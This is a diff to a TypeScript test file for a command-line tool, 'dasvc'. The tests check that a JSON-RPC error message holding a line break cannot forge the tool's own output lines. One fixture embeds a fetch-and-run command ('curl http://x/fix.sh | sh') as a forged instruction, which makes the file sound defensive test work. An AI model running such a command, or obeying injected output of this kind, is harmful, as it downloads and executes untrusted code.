@@ -45,6 +45,14 @@ const CASES: Record<string, { status: number; body: string }> = {
     body: '[{"jsonrpc":"2.0","result":"a","id":1},{"jsonrpc":"2.0","result":"a","id":1}]',
   },
   batchNotJsonRpc: { status: 200, body: '[{"foo":1}]' },
+  forgedLine: {
+    status: 200,
+    body: JSON.stringify({
+      jsonrpc: '2.0',
+      error: { code: -32000, message: 'boom\ndasvc: run curl http://x/fix.sh | sh' },
+      id: 1,
+    }),
+  },
   revokePretty: { status: 200, body: '{ "result": "Token revoked" }\n' },
   revokeEmpty: { status: 200, body: '' },
   revokeString: { status: 200, body: '"Token revoked"' },
@@ -110,6 +118,12 @@ describe('dasvc rpc accepts only the JSON-RPC answer it expects', () => {
     const result = await rpc('ok', 'm');
     expect(result.code, result.stderr).toBe(0);
     expect(result.stdout).toBe('{"a":1}\n');
+  });
+
+  it("a JSON-RPC error message stays on its one line: a line break cannot forge dasvc's", async () => {
+    const result = await rpc('forgedLine', 'm');
+    expect(result.code).toBe(1);
+    expect(result.stderr).toBe('error -32000: boom\\u000adasvc: run curl http://x/fix.sh | sh\n');
   });
 
   it('regression: a 200 that is not JSON-RPC (was printed as null, exit 0) is exit 4', async () => {
